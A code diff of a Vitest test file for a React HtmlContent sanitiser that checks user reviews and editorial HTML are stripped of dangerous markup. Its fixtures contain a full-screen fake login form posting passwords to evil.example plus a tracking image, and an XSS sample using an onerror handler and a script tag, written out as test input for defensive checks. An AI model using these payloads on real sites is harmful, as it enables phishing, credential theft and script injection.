@@ -1,19 +1,26 @@
 import { describe, expect, it } from 'vitest';
 import { renderWithProviders } from '../test/render';
-import { HtmlContent, sanitizeHtml } from './html-content';
+import { HtmlContent } from './html-content';
+
+const TAKEOVER =
+  '<div style="position:fixed;inset:0;z-index:9999"><form action="https://evil.example/steal" method=post><input name=password type=password><button>Log in</button></form></div><style>body{outline:9px solid red}</style><img src="https://evil.example/t.png">';
 
 describe('HtmlContent', () => {
-  it('removes scripts and event handlers but keeps the markup', () => {
-    const dirty = '<p>Hello <b>there</b></p><img src="/media/a.svg" onerror="window.__xss=1"><script>window.__xss=2</script>';
-    expect(sanitizeHtml(dirty)).toBe('<p>Hello <b>there</b></p><img src="/media/a.svg" alt="">');
-    const { container } = renderWithProviders(<HtmlContent html={dirty} />);
-    expect(container.querySelector('script')).toBeNull();
-    expect(container.querySelector('img')?.getAttribute('onerror')).toBeNull();
+  it('shows a review as text formatting only: no form, style, positioning or picture', () => {
+    const { container } = renderWithProviders(<HtmlContent policy="user" html={`<p>Hello <b>there</b></p>${TAKEOVER}`} />);
     expect(container.querySelector('b')).toHaveTextContent('there');
+    // Mantine's own <style data-mantine-styles> is the app's, not the review's.
+    expect(container.querySelector('form, input, button, style:not([data-mantine-styles]), img, [style*="fixed"]')).toBeNull();
+    expect(container).not.toHaveTextContent('Log in');
   });
 
-  it('marks pictures without alt text as decorative and keeps a given alt', () => {
-    expect(sanitizeHtml('<img src="/a.svg" alt="The Bund at night">')).toBe('<img src="/a.svg" alt="The Bund at night">');
-    expect(sanitizeHtml('<img src="/a.svg">')).toBe('<img src="/a.svg" alt="">');
+  it('shows an editorial text with its headings, links and pictures, without scripts or handlers', () => {
+    const dirty = '<h2>About</h2><a href="/Blog">blog</a><img src="/media/a.svg" onerror="window.__xss=1"><script>window.__xss=2</script>';
+    const { container } = renderWithProviders(<HtmlContent policy="editorial" html={dirty} />);
+    expect(container.querySelector('h2')).toHaveTextContent('About');
+    expect(container.querySelector('a')).toHaveAttribute('href', '/Blog');
+    expect(container.querySelector('img')).toHaveAttribute('src', '/media/a.svg');
+    expect(container.querySelector('img')?.getAttribute('onerror')).toBeNull();
+    expect(container.querySelector('script')).toBeNull();
   });
 });
